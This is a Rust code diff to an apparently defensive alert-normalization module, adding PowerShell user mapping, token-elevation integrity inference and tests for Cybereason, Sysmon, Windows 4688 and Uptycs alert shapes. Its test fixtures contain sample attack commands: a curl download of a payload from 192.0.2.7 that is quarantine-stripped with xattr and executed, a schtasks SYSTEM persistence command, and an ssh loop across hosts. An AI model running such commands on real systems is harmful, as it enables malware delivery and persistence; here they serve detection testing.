@@ -1837,6 +1837,25 @@ pub fn normalize(mut obj: Map<String, Json>) -> (Map<String, Json>, Option<Strin
         }
     }
 
+    // winlogbeat's `winlog.user` on a PowerShell event is the account that ran the script (on
+    // a Sysmon event it would be Sysmon's own service account, so only PowerShell's channels).
+    if !flat_windows
+        && get_path(&Json::Object(ecs.clone()), "user.name").is_none()
+        && get_str(&doc, "winlog.channel")
+            .is_some_and(|c| c.to_ascii_lowercase().contains("powershell"))
+        && let Some(name) = get_str(&doc, "winlog.user.name").filter(|n| !n.trim().is_empty())
+    {
+        set_path(&mut ecs, "user.name", Json::String(name.to_owned()));
+        for (from, to) in [
+            ("winlog.user.domain", "user.domain"),
+            ("winlog.user.identifier", "user.id"),
+        ] {
+            if let Some(v) = get_str(&doc, from).filter(|v| !v.trim().is_empty()) {
+                set_path(&mut ecs, to, Json::String(v.to_owned()));
+            }
+        }
+    }
+
     // Wazuh alerts (from the Wazuh indexer): Windows events under data.win, auditd commands
     // under data.audit; the agent is the host, rule.mitre.id the techniques.
     if !flat_windows && get_path(&Json::Object(ecs.clone()), "process").is_none() {
@@ -3519,6 +3538,21 @@ pub(crate) fn windows_flat(o: &Map<String, Json>) -> Map<String, Json> {
                         .into_iter()
                         .find(|w| other.ends_with(&format!("{w} Mandatory Level")))
                         .map_or_else(|| other.to_owned(), str::to_owned),
+                });
+                // Without the label, the token's elevation type: a UAC-elevated token (type 2,
+                // `%%1937`) runs at High integrity, a filtered one (type 3, `%%1938`) at Medium.
+                // Type 1 (`%%1936`, no split token: services, the built-in administrator) says
+                // nothing on its own.
+                let il = il.or_else(|| {
+                    let t = get("TokenElevationType")?;
+                    let t = t.to_ascii_lowercase();
+                    if t == "%%1937" || t.contains("typefull") || t.trim() == "2" {
+                        Some("High".to_owned())
+                    } else if t == "%%1938" || t.contains("typelimited") || t.trim() == "3" {
+                        Some("Medium".to_owned())
+                    } else {
+                        None
+                    }
                 });
                 set(&mut e, "process.integrity_level", il);
             }
@@ -7915,5 +7949,75 @@ mod tests {
         let a = from_json(so, "x").unwrap();
         assert_eq!(get(&a, "process.name"), "powershell.exe");
         assert!(get(&a, "process.command_line").contains("IEX x"));
+    }
+
+    #[test]
+    fn session_30_shapes() {
+        let get = |a: &Alert, p: &str| get_str(&a.doc, p).unwrap_or_default().to_owned();
+        // Cybereason: a MalOp whose `processTree` lists its processes oldest first, no parent
+        // named: a shell's `-c` is the parent of the commands it lists, and of the program the
+        // chain fetched (known by its image only); the machine, user and connection read too.
+        let cr = json!({"guidString": "11.7", "simpleValues": {"displayName": {"values": ["zsh"]}},
+            "elementValues": {"affectedMachines": {"elementValues": [{"name": "MBA-1", "elementType": "Machine"}]},
+                "affectedUsers": {"elementValues": [{"name": "mba-1\\ann", "elementType": "User"}]}},
+            "processTree": [{"elementName": "Terminal", "imageFile": "/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal"},
+                {"elementName": "zsh", "commandLine": "/bin/zsh -c curl -so /tmp/.a http://192.0.2.7/a && xattr -c /tmp/.a && /tmp/.a &"},
+                {"elementName": "curl", "commandLine": "curl -so /tmp/.a http://192.0.2.7/a"},
+                {"elementName": "xattr", "commandLine": "xattr -c /tmp/.a"},
+                {"elementName": ".a", "imageFile": "/private/tmp/.a", "connections": [{"remoteAddress": "192.0.2.7", "remotePort": 8080, "direction": "OUTGOING"}]}]});
+        let a = from_json(cr, "x").unwrap();
+        assert_eq!(get(&a, "process.name"), "curl");
+        let cmd = get(&a, "process.command_line");
+        assert!(
+            cmd.starts_with("curl -so /tmp/.a http://192.0.2.7/a\nxattr -c /tmp/.a"),
+            "{cmd}"
+        );
+        assert_eq!(get(&a, "process.parent.name"), "zsh");
+        assert_eq!(get(&a, "process.parent.parent.name"), "Terminal");
+        assert_eq!(get(&a, "host.name"), "MBA-1");
+        assert_eq!(get(&a, "user.name"), "ann");
+        assert_eq!(get(&a, "destination.ip"), "192.0.2.7");
+        assert_eq!(a.id, "11.7");
+        // winlogbeat's `winlog.user` on a PowerShell script block is the account that ran it.
+        let ps = json!({"event": {"code": "4104"}, "host": {"name": "w"},
+            "winlog": {"channel": "Microsoft-Windows-PowerShell/Operational", "event_id": "4104",
+                "user": {"identifier": "S-1-5-18", "name": "SYSTEM", "domain": "NT AUTHORITY"}},
+            "powershell": {"file": {"script_block_text": "Get-Date"}}});
+        let a = from_json(ps, "x").unwrap();
+        assert_eq!(get(&a, "user.name"), "SYSTEM");
+        assert_eq!(get(&a, "user.id"), "S-1-5-18");
+        // (on a Sysmon event it is Sysmon's own account, not the process's)
+        let sy = json!({"host": {"name": "w"}, "winlog": {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": "3",
+            "user": {"name": "SYSTEM", "domain": "NT AUTHORITY"}, "event_data": {"Image": "C:\\x\\a.exe", "DestinationIp": "192.0.2.1"}}});
+        let a = from_json(sy, "x").unwrap();
+        assert_ne!(get(&a, "user.name"), "SYSTEM");
+        // A 4688 without the mandatory label: a UAC-elevated token runs at High integrity.
+        let se = json!({"EventID": 4688, "Computer": "w", "NewProcessName": "C:\\Windows\\System32\\schtasks.exe",
+            "CommandLine": "schtasks /create /tn x /ru SYSTEM /tr calc", "SubjectUserName": "kim", "SubjectDomainName": "CORP",
+            "ParentProcessName": "C:\\Windows\\System32\\cmd.exe", "TokenElevationType": "%%1937"});
+        let a = from_json(se, "x").unwrap();
+        assert_eq!(get(&a, "process.integrity_level"), "High");
+        // Uptycs: an alert whose row is `process` (its parent an object, its ancestors listed
+        // from the grandparent up), what it started and the script's text as branches.
+        let up = json!({"id": "u", "assetId": "a", "assetHostName": "mbp-1", "code": "X", "metadata": {
+            "process": {"pid": 5, "name": "bash", "path": "/bin/bash", "cmdline": "/bin/bash /Users/j/.x/run.sh", "username": "j"},
+            "parent": {"pid": 4, "name": "python3", "path": "/usr/bin/python3", "cmdline": "python3 /Users/j/.x/p.py"},
+            "ancestors": [{"pid": 3, "name": "sshd", "cmdline": "sshd: j@notty"}],
+            "children": [{"name": "ssh", "cmdline": "ssh deploy@10.0.0.2 id"}],
+            "script_preview": "for h in a b; do ssh $h id; done"}});
+        let a = from_json(up, "x").unwrap();
+        assert_eq!(
+            get(&a, "process.command_line"),
+            "/bin/bash /Users/j/.x/run.sh\nssh deploy@10.0.0.2 id\nfor h in a b; do ssh $h id; done"
+        );
+        assert_eq!(
+            get(&a, "process.parent.command_line"),
+            "python3 /Users/j/.x/p.py"
+        );
+        assert_eq!(
+            get(&a, "process.parent.parent.command_line"),
+            "sshd: j@notty"
+        );
+        assert_eq!(get(&a, "host.name"), "mbp-1");
     }
 }
